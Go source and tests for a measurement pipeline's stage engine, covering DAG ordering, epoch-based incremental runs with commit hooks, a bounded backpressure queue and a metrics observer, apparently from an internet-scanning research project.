		t.Fatal("blocked Put did not unblock on Close")
	}
	// The pre-close item survives the shutdown.
	if v, ok, err := q.Get(ctx); !ok || err != nil || v != 1 {
		t.Fatalf("Get after Close = (%d, %v, %v), want the buffered 1", v, ok, err)
	}
	if _, ok, err := q.Get(ctx); ok || err != nil {
		t.Fatalf("drained queue still yields items (ok=%v err=%v)", ok, err)
	}
}

// TestQueueClosePutRace hammers the Put/Close race that used to be a
// send-on-closed-channel panic: producers putting full tilt while the
// consumer closes. Every Put must return nil or ErrQueueClosed, and
// every successfully-Put item must come out of Get exactly once.
func TestQueueClosePutRace(t *testing.T) {
	for round := 0; round < 200; round++ {
		q := NewQueue[int](2)
		ctx := context.Background()
		put := make(chan int, 1)
		go func() {
			n := 0
			for {
				if err := q.Put(ctx, n); err != nil {
					if !errors.Is(err, ErrQueueClosed) {
						t.Errorf("Put: %v", err)
					}
					put <- n
					return
				}
				n++
			}
		}()
		// Consume a few, then close mid-stream.
		for i := 0; i < 3; i++ {
			if v, ok, err := q.Get(ctx); !ok || err != nil || v != i {
				t.Fatalf("Get = (%d, %v, %v), want (%d, true, nil)", v, ok, err, i)
			}
		}
		q.Close()
		accepted := <-put
		// Drain: items 3..accepted-1 in order, except possibly the very
		// last Put, which may have raced the close and lost.
		next := 3
		for {
			v, ok, err := q.Get(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if !ok {
				break
			}
			if v != next {
				t.Fatalf("drained %d, want %d", v, next)
			}
			next++
		}
		if next != accepted {
			t.Fatalf("accepted %d items but drained up to %d", accepted, next)
		}
	}
}

// TestRunEpochsFromSkipsCommitted checks the resume entry point: epochs
// before `first` never run, the rest see their true epoch numbers, and
// EpochCommit fires once per executed epoch.
func TestRunEpochsFromSkipsCommitted(t *testing.T) {
	e := New(nil, nil)
	var ran, committed []int
	if err := e.Add(Stage{
		Name:     "apply",
		Run:      func(context.Context) ([]Count, error) { return nil, nil },
		RunEpoch: func(_ context.Context, epoch int) ([]Count, error) { ran = append(ran, epoch); return nil, nil },
	}); err != nil {
		t.Fatal(err)
	}
	final := 0
	if err := e.Add(Stage{
		Name: "finalize",
		Run:  func(context.Context) ([]Count, error) { final++; return nil, nil },
	}); err != nil {
		t.Fatal(err)
	}
	e.EpochCommit = func(_ context.Context, epoch int) error { committed = append(committed, epoch); return nil }
	if _, err := e.RunEpochsFrom(context.Background(), 2, 5); err != nil {
		t.Fatal(err)
	}
	want := []int{2, 3, 4}
	if len(ran) != 3 || ran[0] != 2 || ran[2] != 4 {
		t.Errorf("epochs ran: %v, want %v", ran, want)
	}
	if len(committed) != 3 || committed[0] != 2 || committed[2] != 4 {
		t.Errorf("epochs committed: %v, want %v", committed, want)
	}
	if final != 1 {
		t.Errorf("finalizer ran %d times, want 1", final)
	}

	// Resume-after-completion: no epochs, finalizers only.
	ran, committed, final = nil, nil, 0
	if _, err := e.RunEpochsFrom(context.Background(), 5, 5); err != nil {
		t.Fatal(err)
	}
	if len(ran) != 0 || len(committed) != 0 || final != 1 {
		t.Errorf("first==epochs ran %v/%v/final=%d, want nothing but the finalizer", ran, committed, final)
	}
}

// TestEpochCommitErrorAborts pins the failure contract: a commit error
// stops the stream before later epochs and skips the finalizers.
func TestEpochCommitErrorAborts(t *testing.T) {
	e := New(nil, nil)
	var ran []int
	if err := e.Add(Stage{
		Name:     "apply",
		Run:      func(context.Context) ([]Count, error) { return nil, nil },
		RunEpoch: func(_ context.Context, epoch int) ([]Count, error) { ran = append(ran, epoch); return nil, nil },
	}); err != nil {
		t.Fatal(err)
	}
	final := 0
	if err := e.Add(Stage{
		Name: "finalize",
		Run:  func(context.Context) ([]Count, error) { final++; return nil, nil },
	}); err != nil {
		t.Fatal(err)
	}
	stop := errors.New("stop")
	e.EpochCommit = func(_ context.Context, epoch int) error {
		if epoch == 1 {
			return stop
		}
		return nil
	}
	if _, err := e.RunEpochs(context.Background(), 4); !errors.Is(err, stop) {
		t.Fatalf("RunEpochs = %v, want the commit error", err)
	}
	if len(ran) != 2 {
		t.Errorf("epochs ran: %v, want [0 1]", ran)
	}
	if final != 0 {
		t.Errorf("finalizer ran despite aborted stream")
	}
}
