package pipeline

import (
	"context"
	"fmt"
)

// RunEpochs executes the DAG in incremental mode: every stage with a
// RunEpoch runs once per epoch (epochs 0..epochs-1, stages in the same
// deterministic topological order within each epoch), and every stage
// with only a batch Run is a finalizer that executes once after the last
// epoch — the natural place to freeze a streamed collector into its
// final snapshot. Determinism is the batch engine's: within an epoch the
// stage order is a pure function of Add order, epochs run in ascending
// order, and the observer remains a side channel.
//
// Failure semantics mirror Run. A Required failure (or a dead context)
// aborts the whole stream — the remaining stages of the current epoch
// and the finalizers are announced as skipped once, not once per unrun
// epoch. A BestEffort failure degrades that stage for that epoch only:
// the same stage still runs in later epochs, since an epoch engine that
// drops a stage forever after one bad epoch could never ride over a
// transient fault.
//
// The trace records one StageResult per (stage, epoch) pair, with
// finalizers at BatchEpoch, so Counts() concatenates the full epoch
// history in execution order.
func (e *Engine) RunEpochs(ctx context.Context, epochs int) (*Trace, error) {
	return e.RunEpochsFrom(ctx, 0, epochs)
}

// RunEpochsFrom is RunEpochs starting at epoch `first` instead of 0: a
// resumed run re-enters the stream exactly where its checkpoint left
// off, skipping the epochs already committed. Incremental stages see
// the same epoch numbers they would in a full run; finalizers run as
// usual after epoch epochs-1. first == epochs runs no epochs and goes
// straight to the finalizers (the resumed-after-completion case).
func (e *Engine) RunEpochsFrom(ctx context.Context, first, epochs int) (*Trace, error) {
	order, err := e.order()
	if err != nil {
		return &Trace{}, err
	}
	if epochs < 0 {
		return &Trace{}, fmt.Errorf("pipeline: RunEpochs(%d): negative epoch count", epochs)
	}
	if first < 0 || first > epochs {
		return &Trace{}, fmt.Errorf("pipeline: RunEpochsFrom(%d, %d): start epoch out of range", first, epochs)
	}
	var incremental, finalizers []int
	for _, i := range order {
		if e.stages[i].RunEpoch != nil {
			incremental = append(incremental, i)
		} else {
			finalizers = append(finalizers, i)
		}
	}
	trace := &Trace{Stages: make([]StageResult, 0, len(incremental)*(epochs-first)+len(finalizers))}
	for epoch := first; epoch < epochs; epoch++ {
		for k, i := range incremental {
			st := e.stages[i]
			// Cancellation checkpoint between stages, as in batch mode.
			if err := ctx.Err(); err != nil {
				e.skipRemaining(trace, incremental[k:])
				e.skipRemaining(trace, finalizers)
				return trace, err
			}
			run := func(ctx context.Context) ([]Count, error) { return st.RunEpoch(ctx, epoch) }
			if err := e.runStage(ctx, trace, st, epoch, run); err != nil {
				if isDegraded(err) {
					continue
				}
				e.skipRemaining(trace, incremental[k+1:])
				e.skipRemaining(trace, finalizers)
				return trace, err
			}
		}
		if e.EpochCommit != nil {
			if err := e.EpochCommit(ctx, epoch); err != nil {
				e.skipRemaining(trace, finalizers)
				return trace, err
			}
		}
	}
	for k, i := range finalizers {
		st := e.stages[i]
		if err := ctx.Err(); err != nil {
			e.skipRemaining(trace, finalizers[k:])
			return trace, err
		}
		if err := e.runStage(ctx, trace, st, BatchEpoch, st.Run); err != nil {
			if isDegraded(err) {
				continue
			}
			e.skipRemaining(trace, finalizers[k+1:])
			return trace, err
		}
	}
	return trace, nil
}
