package pipeline

import (
	"context"
	"fmt"
	"sync/atomic"
)

// Queue is the epoch stream's backpressure seam: a bounded FIFO of delta
// batches between a producer (the scanner sweeping epoch after epoch)
// and a consumer (the stage applying each epoch's deltas). Put blocks
// while the queue is full, so a producer can run at most `capacity`
// epochs ahead of the consumer — exactly the bound a long-running
// service needs to keep scan ingest from outrunning query-side state.
// Order is preserved, which is what keeps delta application (and hence
// the replayed snapshot) deterministic even though the two sides run
// concurrently.
type Queue[T any] struct {
	ch     chan T
	closed atomic.Bool
}

// NewQueue builds a queue holding at most capacity items (minimum 1).
func NewQueue[T any](capacity int) *Queue[T] {
	if capacity < 1 {
		capacity = 1
	}
	return &Queue[T]{ch: make(chan T, capacity)}
}

// Put enqueues v, blocking while the queue is full. It returns ctx.Err()
// if the context dies first, and an error if the queue is closed. Only
// the producer may call Put, and never after Close.
func (q *Queue[T]) Put(ctx context.Context, v T) error {
	if q.closed.Load() {
		return fmt.Errorf("pipeline: Put on closed queue")
	}
	select {
	case q.ch <- v:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Get dequeues the next item, blocking while the queue is empty. ok is
// false once the queue is closed and drained; a dead context surfaces as
// err with ok false.
func (q *Queue[T]) Get(ctx context.Context) (v T, ok bool, err error) {
	select {
	case v, ok = <-q.ch:
		return v, ok, nil
	case <-ctx.Done():
		return v, false, ctx.Err()
	}
}

// Close marks the end of the stream. The consumer drains the remaining
// items, then Get reports ok=false. Close is idempotent.
func (q *Queue[T]) Close() {
	if q.closed.CompareAndSwap(false, true) {
		close(q.ch)
	}
}

// Len is the number of items currently buffered — the consumer's lag
// behind the producer in epochs. It is a scheduling-dependent
// observation: export it only as a Timing-class metric.
func (q *Queue[T]) Len() int { return len(q.ch) }
