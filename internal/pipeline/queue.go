package pipeline

import (
	"context"
	"errors"
	"sync"
)

// ErrQueueClosed is returned by Put once the queue has been closed.
var ErrQueueClosed = errors.New("pipeline: queue closed")

// Queue is the epoch stream's backpressure seam: a bounded FIFO of delta
// batches between a producer (the scanner sweeping epoch after epoch)
// and a consumer (the stage applying each epoch's deltas). Put blocks
// while the queue is full, so a producer can run at most `capacity`
// epochs ahead of the consumer — exactly the bound a long-running
// service needs to keep scan ingest from outrunning query-side state.
// Order is preserved, which is what keeps delta application (and hence
// the replayed snapshot) deterministic even though the two sides run
// concurrently.
//
// Shutdown is a first-class state, not a channel close: the item channel
// is never closed, so Close can race Put freely — a Put blocked on a
// full queue unblocks with ErrQueueClosed instead of panicking, and
// items already buffered at Close time still drain through Get.
type Queue[T any] struct {
	ch   chan T
	done chan struct{}
	once sync.Once
}

// NewQueue builds a queue holding at most capacity items (minimum 1).
func NewQueue[T any](capacity int) *Queue[T] {
	if capacity < 1 {
		capacity = 1
	}
	return &Queue[T]{ch: make(chan T, capacity), done: make(chan struct{})}
}

// Put enqueues v, blocking while the queue is full. It returns ctx.Err()
// if the context dies first and ErrQueueClosed once the queue is closed
// — including a Close that arrives while Put is blocked, which is what
// lets a consumer-side shutdown release a stuck producer.
func (q *Queue[T]) Put(ctx context.Context, v T) error {
	select {
	case <-q.done:
		return ErrQueueClosed
	default:
	}
	select {
	case q.ch <- v:
		return nil
	case <-q.done:
		return ErrQueueClosed
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Get dequeues the next item, blocking while the queue is empty. ok is
// false once the queue is closed and fully drained — items enqueued
// before (or racing) Close are never dropped. A dead context surfaces
// as err with ok false.
func (q *Queue[T]) Get(ctx context.Context) (v T, ok bool, err error) {
	select {
	case v = <-q.ch:
		return v, true, nil
	case <-q.done:
		// Closed: hand out whatever is still buffered, then end the
		// stream.
		select {
		case v = <-q.ch:
			return v, true, nil
		default:
			return v, false, nil
		}
	case <-ctx.Done():
		return v, false, ctx.Err()
	}
}

// Close marks the end of the stream. The consumer drains the remaining
// items, then Get reports ok=false. Close is idempotent and safe to
// call while producers are blocked in Put.
func (q *Queue[T]) Close() {
	q.once.Do(func() { close(q.done) })
}

// Len is the number of items currently buffered — the consumer's lag
// behind the producer in epochs. It is a scheduling-dependent
// observation: export it only as a Timing-class metric.
func (q *Queue[T]) Len() int { return len(q.ch) }
