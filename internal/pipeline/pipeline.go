// Package pipeline is the measurement pipeline's stage engine. The
// paper's processing chain (Figure 3: sweep → prefilter → domain scans →
// matching → clustering → labeling) is a DAG of stages, and every study
// in internal/core is a composition of such stages rather than a
// hand-wired monolith.
//
// The engine owns three concerns the stages themselves must not:
//
//   - Context propagation. Run checks the context between stages and
//     hands it to every stage, so an order-24 "full Internet" study can
//     be cancelled or deadlined mid-flight.
//   - Timing. Each stage is clocked through an injected scanner.Clock —
//     the same seam the scanner uses — so tests assert on stage timing
//     with a fake clock and production pays one monotonic read per edge.
//   - Observation. An Observer receives a StageEvent at every stage
//     start and finish. The observer is a side channel only: engine
//     results are a pure function of the stages, never of the observer,
//     which is how the determinism contract (DESIGN.md) survives
//     progress reporting.
//
// Execution is deterministic: stages run sequentially in a stable
// topological order (insertion order among ready stages), so two runs of
// the same engine perform the same work in the same order.
//
// Stages degrade instead of failing when marked BestEffort: a
// non-cancellation error from such a stage is recorded in the trace and
// announced as StageDegraded, and the rest of the pipeline runs against
// whatever partial data the stage produced. Required stages (the zero
// policy) abort the run; the stages that never started are announced as
// StageSkipped and listed in the trace, so progress reporting shows
// exactly where a run died.
package pipeline

import (
	"context"
	"fmt"
	"time"

	"goingwild/internal/scanner"
)

// Count is one named tuple count a stage reports — the box annotations
// of the paper's Figure 3 (e.g. "3-unexpected tuples").
type Count struct {
	Name  string
	Value int
}

// Policy selects how a stage's failure affects the rest of the
// pipeline.
type Policy uint8

const (
	// Required stages abort the pipeline on failure: downstream stages
	// are skipped and Run returns the wrapped error. The zero value.
	Required Policy = iota
	// BestEffort stages degrade instead of aborting: the failure is
	// recorded in the trace, a StageDegraded event fires, and downstream
	// stages still run against whatever partial data the stage left
	// behind. A context cancellation is never degradable — a dead
	// context aborts the pipeline regardless of policy.
	BestEffort
)

// String names the policy for traces and progress output.
func (p Policy) String() string {
	switch p {
	case Required:
		return "required"
	case BestEffort:
		return "best-effort"
	default:
		return fmt.Sprintf("policy(%d)", uint8(p))
	}
}

// Stage is one node of the pipeline DAG.
type Stage struct {
	// Name identifies the stage in events, traces, and Needs edges.
	Name string
	// Needs lists stages that must complete before this one runs.
	Needs []string
	// Policy is how the engine treats this stage's failure. The zero
	// value (Required) aborts the pipeline; BestEffort records the
	// failure and continues.
	Policy Policy
	// Run does the work in batch mode. The returned counts are recorded
	// in the trace and forwarded to the observer. Under RunEpochs a
	// stage with only Run is a finalizer: it executes once after the
	// last epoch.
	Run func(ctx context.Context) ([]Count, error)
	// RunEpoch is the stage's incremental mode: under Engine.RunEpochs
	// it executes once per epoch, consuming and emitting that epoch's
	// deltas. Stages with a RunEpoch are ignored by the batch Run unless
	// they also set Run. At least one of Run and RunEpoch must be set.
	RunEpoch func(ctx context.Context, epoch int) ([]Count, error)
}

// EventKind tags a StageEvent.
type EventKind uint8

// Stage lifecycle events.
const (
	// StageStart is emitted immediately before a stage runs.
	StageStart EventKind = iota
	// StageDone is emitted after a stage returns nil.
	StageDone
	// StageFailed is emitted after a stage returns an error (including
	// a context cancellation surfaced by the stage).
	StageFailed
	// StageDegraded is emitted instead of StageFailed when a BestEffort
	// stage returns a non-cancellation error: the pipeline continues.
	StageDegraded
	// StageSkipped is emitted for each stage that never ran because an
	// earlier required stage failed or the context died between stages.
	StageSkipped
)

// String names the kind for progress output.
func (k EventKind) String() string {
	switch k {
	case StageStart:
		return "start"
	case StageDone:
		return "done"
	case StageFailed:
		return "failed"
	case StageDegraded:
		return "degraded"
	case StageSkipped:
		return "skipped"
	default:
		return fmt.Sprintf("kind(%d)", uint8(k))
	}
}

// BatchEpoch is the Epoch value of batch-mode stage runs and of the
// finalizer stages RunEpochs executes after the last epoch.
const BatchEpoch = -1

// StageEvent is one observer notification.
type StageEvent struct {
	// Stage is the stage's name.
	Stage string
	// Kind is the lifecycle edge.
	Kind EventKind
	// Epoch is the epoch an incremental stage ran for, or BatchEpoch for
	// batch-mode runs and finalizer stages.
	Epoch int
	// Elapsed is the stage's run time (zero for StageStart), measured on
	// the engine's clock — wall time in production, simulated time under
	// a fake clock.
	Elapsed time.Duration
	// Counts are the stage's reported tuple counts (StageDone only).
	Counts []Count
	// Err is the stage's failure (StageFailed and StageDegraded only).
	Err error
}

// Observer receives stage events. It runs on the engine's goroutine, so
// a slow observer slows the pipeline but can never reorder it.
type Observer func(StageEvent)

// StageResult is one stage the engine ran, recorded in a Trace. A
// successful stage has Counts and a nil Err; a degraded best-effort
// stage has Err set and Degraded true; the required stage that aborted
// the pipeline (at most one, always last) has Err set and Degraded
// false.
type StageResult struct {
	Name string
	// Epoch is the epoch an incremental stage ran for, or BatchEpoch for
	// batch-mode runs and finalizer stages.
	Epoch   int
	Elapsed time.Duration
	Counts  []Count
	// Err is the stage's failure, nil on success.
	Err error
	// Degraded marks a best-effort stage whose failure was absorbed.
	Degraded bool
}

// Trace records the stages an engine ran, in execution order. It is the
// engine-emitted replacement for hand-maintained stage accounting.
// Every stage that started is present — including the failed one, with
// its Err and timing, so progress reporting can show where a run died.
type Trace struct {
	Stages []StageResult
	// Skipped names the stages that never ran because an earlier
	// required stage failed or the context died, in topological order.
	Skipped []string
}

// Counts concatenates every completed stage's counts in execution order
// — the Figure-3 box flow. Failed and degraded stages contribute
// nothing (their Counts are nil).
func (t *Trace) Counts() []Count {
	var out []Count
	for _, st := range t.Stages {
		out = append(out, st.Counts...)
	}
	return out
}

// Degraded lists the best-effort stages whose failures were absorbed,
// in execution order. Empty on a clean run.
func (t *Trace) Degraded() []StageResult {
	var out []StageResult
	for _, st := range t.Stages {
		if st.Degraded {
			out = append(out, st)
		}
	}
	return out
}

// Engine executes a DAG of stages.
type Engine struct {
	clock    scanner.Clock
	observer Observer
	stages   []Stage
	index    map[string]int

	// EpochCommit, when set, runs after each epoch's incremental stages
	// succeed in RunEpochs/RunEpochsFrom — the hook a checkpointing
	// orchestrator uses to persist "epoch k is fully applied" at the
	// exact moment that becomes true. An error aborts the stream like a
	// Required stage failure (remaining epochs and finalizers are
	// skipped); in particular a deliberate stop signal propagates out
	// with the just-committed state intact.
	EpochCommit func(ctx context.Context, epoch int) error
}

// New builds an engine. A nil clock defaults to scanner.SystemClock; a
// nil observer disables event reporting.
func New(clock scanner.Clock, observer Observer) *Engine {
	if clock == nil {
		clock = scanner.SystemClock
	}
	return &Engine{clock: clock, observer: observer, index: map[string]int{}}
}

// Add registers a stage. Names must be unique and non-empty, and Run
// must be set; dependency names are validated by Run (so stages may be
// added in any order).
func (e *Engine) Add(st Stage) error {
	if st.Name == "" {
		return fmt.Errorf("pipeline: stage with empty name")
	}
	if st.Run == nil && st.RunEpoch == nil {
		return fmt.Errorf("pipeline: stage %q has no Run", st.Name)
	}
	if _, dup := e.index[st.Name]; dup {
		return fmt.Errorf("pipeline: duplicate stage %q", st.Name)
	}
	e.index[st.Name] = len(e.stages)
	e.stages = append(e.stages, st)
	return nil
}

// MustAdd is Add for statically-known stage sets; it panics on the
// programmer errors Add reports.
func (e *Engine) MustAdd(st Stage) {
	if err := e.Add(st); err != nil {
		panic(err)
	}
}

// order returns a deterministic topological order: Kahn's algorithm with
// ready stages processed in insertion order.
func (e *Engine) order() ([]int, error) {
	n := len(e.stages)
	indeg := make([]int, n)
	next := make([][]int, n) // dependency -> dependents
	for i, st := range e.stages {
		for _, need := range st.Needs {
			j, ok := e.index[need]
			if !ok {
				return nil, fmt.Errorf("pipeline: stage %q needs unknown stage %q", st.Name, need)
			}
			if j == i {
				return nil, fmt.Errorf("pipeline: stage %q needs itself", st.Name)
			}
			indeg[i]++
			next[j] = append(next[j], i)
		}
	}
	// ready is kept sorted by insertion index: pop the smallest so the
	// execution order is a pure function of Add order, never map order.
	var ready []int
	for i := 0; i < n; i++ {
		if indeg[i] == 0 {
			ready = append(ready, i)
		}
	}
	order := make([]int, 0, n)
	for len(ready) > 0 {
		min := 0
		for k := 1; k < len(ready); k++ {
			if ready[k] < ready[min] {
				min = k
			}
		}
		i := ready[min]
		ready = append(ready[:min], ready[min+1:]...)
		order = append(order, i)
		for _, j := range next[i] {
			indeg[j]--
			if indeg[j] == 0 {
				ready = append(ready, j)
			}
		}
	}
	if len(order) != n {
		for i, d := range indeg {
			if d > 0 {
				return nil, fmt.Errorf("pipeline: dependency cycle through stage %q", e.stages[i].Name)
			}
		}
	}
	return order, nil
}

// Run executes every stage in dependency order. A failing Required
// stage (or a context cancellation) stops the pipeline: the failure is
// recorded in the trace with its timing, every stage that never ran is
// listed in trace.Skipped (with a StageSkipped event each), and the
// wrapped error is returned. A failing BestEffort stage degrades
// instead: its error lands in the trace, a StageDegraded event fires,
// and downstream stages still run. The returned trace is valid (if
// partial) even when err is non-nil.
func (e *Engine) Run(ctx context.Context) (*Trace, error) {
	order, err := e.order()
	if err != nil {
		return &Trace{}, err
	}
	for _, i := range order {
		if e.stages[i].Run == nil {
			return &Trace{}, fmt.Errorf("pipeline: stage %q is epoch-only (no Run); use RunEpochs", e.stages[i].Name)
		}
	}
	trace := &Trace{Stages: make([]StageResult, 0, len(order))}
	for k, i := range order {
		st := e.stages[i]
		// Cancellation checkpoint between stages: a dead context stops
		// the pipeline before the next stage starts any work.
		if err := ctx.Err(); err != nil {
			e.skipRemaining(trace, order[k:])
			return trace, err
		}
		run := st.Run
		if err := e.runStage(ctx, trace, st, BatchEpoch, run); err != nil {
			if isDegraded(err) {
				continue
			}
			e.skipRemaining(trace, order[k+1:])
			return trace, err
		}
	}
	return trace, nil
}

// degradedError marks a best-effort failure the engine absorbed: the
// caller continues instead of aborting.
type degradedError struct{ err error }

func (d degradedError) Error() string { return d.err.Error() }

func isDegraded(err error) bool {
	_, ok := err.(degradedError)
	return ok
}

// runStage executes one stage function (batch or one epoch of an
// incremental stage), folding timing, trace, and events. It returns nil
// on success, a degradedError for an absorbed best-effort failure, and
// the wrapped stage error for an abort.
func (e *Engine) runStage(ctx context.Context, trace *Trace, st Stage, epoch int, run func(ctx context.Context) ([]Count, error)) error {
	e.emit(StageEvent{Stage: st.Name, Kind: StageStart, Epoch: epoch})
	t0 := e.clock.Now()
	counts, err := run(ctx)
	elapsed := e.clock.Now().Sub(t0)
	if err != nil {
		// A dead context is never degradable: the stage's error is
		// (or raced with) the cancellation, and downstream stages
		// could not run anyway.
		if st.Policy == BestEffort && ctx.Err() == nil {
			trace.Stages = append(trace.Stages, StageResult{Name: st.Name, Epoch: epoch, Elapsed: elapsed, Err: err, Degraded: true})
			e.emit(StageEvent{Stage: st.Name, Kind: StageDegraded, Epoch: epoch, Elapsed: elapsed, Err: err})
			return degradedError{err}
		}
		trace.Stages = append(trace.Stages, StageResult{Name: st.Name, Epoch: epoch, Elapsed: elapsed, Err: err})
		e.emit(StageEvent{Stage: st.Name, Kind: StageFailed, Epoch: epoch, Elapsed: elapsed, Err: err})
		return fmt.Errorf("pipeline: stage %q: %w", st.Name, err)
	}
	trace.Stages = append(trace.Stages, StageResult{Name: st.Name, Epoch: epoch, Elapsed: elapsed, Counts: counts})
	e.emit(StageEvent{Stage: st.Name, Kind: StageDone, Epoch: epoch, Elapsed: elapsed, Counts: counts})
	return nil
}

// skipRemaining records and announces the stages an aborted run never
// reached, in the topological order they would have run.
func (e *Engine) skipRemaining(trace *Trace, rest []int) {
	for _, i := range rest {
		name := e.stages[i].Name
		trace.Skipped = append(trace.Skipped, name)
		e.emit(StageEvent{Stage: name, Kind: StageSkipped, Epoch: BatchEpoch})
	}
}

func (e *Engine) emit(ev StageEvent) {
	if e.observer != nil {
		e.observer(ev)
	}
}
