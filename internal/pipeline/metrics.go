package pipeline

import "goingwild/internal/metrics"

// durationBucketsMS are the upper bounds (milliseconds) of the stage
// duration histogram: tight at the bottom for in-memory runs, wide at
// the top for order-24 studies.
var durationBucketsMS = []int64{1, 5, 10, 50, 100, 500, 1000, 5000, 10_000, 60_000}

// MetricsObserver returns an Observer that folds every stage event into
// the registry: lifecycle tallies (pipeline.stage.started/done/
// degraded/failed/skipped), each stage's reported tuple counts
// (pipeline.count.<name>), and a Timing-class duration histogram plus a
// per-stage Timing gauge of the last run's duration. Like every
// observer it is a pure side channel — the engine's results never
// depend on it — and like every metric the lifecycle and tuple-count
// values are deterministic, while the duration series carries the
// Timing class (exact under a fake engine clock, stripped by
// determinism guards otherwise). A nil registry yields a nil Observer,
// which the engine treats as "no observation".
func MetricsObserver(r *metrics.Registry) Observer {
	if r == nil {
		return nil
	}
	started := r.Counter("pipeline.stage.started")
	done := r.Counter("pipeline.stage.done")
	degraded := r.Counter("pipeline.stage.degraded")
	failed := r.Counter("pipeline.stage.failed")
	skipped := r.Counter("pipeline.stage.skipped")
	durations := r.TimingHistogram("pipeline.stage.duration_ms", durationBucketsMS)
	return func(ev StageEvent) {
		switch ev.Kind {
		case StageStart:
			started.Inc()
			return
		case StageDone:
			done.Inc()
		case StageDegraded:
			degraded.Inc()
		case StageFailed:
			failed.Inc()
		case StageSkipped:
			skipped.Inc()
			return
		}
		durations.Observe(ev.Elapsed.Milliseconds())
		r.TimingGauge("pipeline.stage." + ev.Stage + ".ms").Set(ev.Elapsed.Milliseconds())
		for _, c := range ev.Counts {
			if c.Value >= 0 {
				r.Counter("pipeline.count." + c.Name).Add(uint64(c.Value))
			}
		}
	}
}

// deltaSizeBuckets are the upper bounds of the per-epoch delta-batch
// size histogram: zero for quiet epochs, then decades up to the order-24
// scale where a first epoch's "delta" is the entire census.
var deltaSizeBuckets = []int64{0, 10, 100, 1_000, 10_000, 100_000, 1_000_000, 10_000_000}

// EpochMetrics are the streaming engine's per-epoch instruments.
//
// DeltaSize and Epochs are Deterministic: the number of delta records an
// epoch produces is a pure function of (seed, epoch), so two runs must
// agree bucket for bucket. Lag is the consumer's distance behind the
// producer (bounded-queue occupancy at consume time) — a genuinely
// scheduling-dependent observation, so it carries the Timing class and
// is stripped by determinism guards.
type EpochMetrics struct {
	// Lag is pipeline.epoch.lag: queued delta batches not yet applied,
	// sampled when the consumer dequeues. Timing class.
	Lag *metrics.Gauge
	// DeltaSize is pipeline.delta.size: delta records per epoch batch.
	DeltaSize *metrics.Histogram
	// Epochs is pipeline.epoch.done: epochs applied so far.
	Epochs *metrics.Counter
}

// NewEpochMetrics registers the epoch instruments on r. A nil registry
// yields nil (no-op) handles, matching the rest of the metrics layer.
func NewEpochMetrics(r *metrics.Registry) EpochMetrics {
	if r == nil {
		return EpochMetrics{}
	}
	return EpochMetrics{
		Lag:       r.TimingGauge("pipeline.epoch.lag"),
		DeltaSize: r.Histogram("pipeline.delta.size", deltaSizeBuckets),
		Epochs:    r.Counter("pipeline.epoch.done"),
	}
}

// TeeObservers fans one event stream out to several observers in
// argument order, skipping nils. It returns nil when every argument is
// nil, so a tee of absent observers costs the engine nothing.
func TeeObservers(obs ...Observer) Observer {
	live := obs[:0:0]
	for _, o := range obs {
		if o != nil {
			live = append(live, o)
		}
	}
	switch len(live) {
	case 0:
		return nil
	case 1:
		return live[0]
	}
	return func(ev StageEvent) {
		for _, o := range live {
			o(ev)
		}
	}
}
