package pipeline

import (
	"context"
	"errors"
	"testing"
	"time"

	"goingwild/internal/metrics"
)

// TestMetricsObserverFoldsStageEvents runs a four-stage engine on a
// fake clock and asserts the full metric fold: lifecycle tallies,
// per-stage timing gauges (exact, because the clock is fake), the
// duration histogram, and tuple counts.
func TestMetricsObserverFoldsStageEvents(t *testing.T) {
	clock := newFakeClock()
	reg := metrics.New()
	e := New(clock, MetricsObserver(reg))
	e.MustAdd(Stage{Name: "sweep", Run: func(ctx context.Context) ([]Count, error) {
		clock.Sleep(40 * time.Millisecond)
		return []Count{{"responders", 7}, {"probes", 100}}, nil
	}})
	e.MustAdd(Stage{Name: "prefilter", Needs: []string{"sweep"}, Policy: BestEffort,
		Run: func(ctx context.Context) ([]Count, error) {
			clock.Sleep(3 * time.Millisecond)
			return nil, errors.New("partial input")
		}})
	e.MustAdd(Stage{Name: "classify", Needs: []string{"prefilter"},
		Run: func(ctx context.Context) ([]Count, error) {
			return []Count{{"responders", 2}}, nil
		}})
	if _, err := e.Run(context.Background()); err != nil {
		t.Fatal(err)
	}

	s := reg.Snapshot()
	for name, want := range map[string]uint64{
		"pipeline.stage.started":  3,
		"pipeline.stage.done":     2,
		"pipeline.stage.degraded": 1,
		"pipeline.stage.failed":   0,
		"pipeline.stage.skipped":  0,
		"pipeline.count.probes":   100,
		// Two stages report "responders"; the counter accumulates both.
		"pipeline.count.responders": 9,
	} {
		if got := s.Counter(name); got != want {
			t.Errorf("%s = %d, want %d", name, got, want)
		}
	}
	if got := s.Gauge("pipeline.stage.sweep.ms"); got != 40 {
		t.Errorf("sweep duration gauge = %d, want 40", got)
	}
	if got := s.Gauge("pipeline.stage.prefilter.ms"); got != 3 {
		t.Errorf("prefilter duration gauge = %d, want 3", got)
	}
	if len(s.Histograms) != 1 || s.Histograms[0].Name != "pipeline.stage.duration_ms" {
		t.Fatalf("histograms: %+v", s.Histograms)
	}
	if got := s.Histograms[0].Count; got != 3 {
		t.Errorf("duration histogram count = %d, want 3", got)
	}
	if got := s.Histograms[0].Sum; got != 43 {
		t.Errorf("duration histogram sum = %d ms, want 43", got)
	}
}

// TestMetricsObserverCountsSkips: a failing required stage must tally
// failed once and skipped for each stage that never ran.
func TestMetricsObserverCountsSkips(t *testing.T) {
	reg := metrics.New()
	e := New(newFakeClock(), MetricsObserver(reg))
	e.MustAdd(Stage{Name: "boom", Run: func(ctx context.Context) ([]Count, error) {
		return nil, errors.New("fatal")
	}})
	e.MustAdd(Stage{Name: "after", Needs: []string{"boom"},
		Run: func(ctx context.Context) ([]Count, error) { return nil, nil }})
	if _, err := e.Run(context.Background()); err == nil {
		t.Fatal("required-stage failure did not surface")
	}
	s := reg.Snapshot()
	for name, want := range map[string]uint64{
		"pipeline.stage.failed":  1,
		"pipeline.stage.skipped": 1,
		"pipeline.stage.done":    0,
	} {
		if got := s.Counter(name); got != want {
			t.Errorf("%s = %d, want %d", name, got, want)
		}
	}
}

// TestTeeObservers pins the fan-out contract: nils are dropped, all-nil
// collapses to nil (so the engine skips emission entirely), and live
// observers see every event in argument order.
func TestTeeObservers(t *testing.T) {
	if TeeObservers(nil, nil) != nil {
		t.Error("tee of nils is not nil")
	}
	var order []string
	a := func(ev StageEvent) { order = append(order, "a:"+ev.Stage) }
	b := func(ev StageEvent) { order = append(order, "b:"+ev.Stage) }
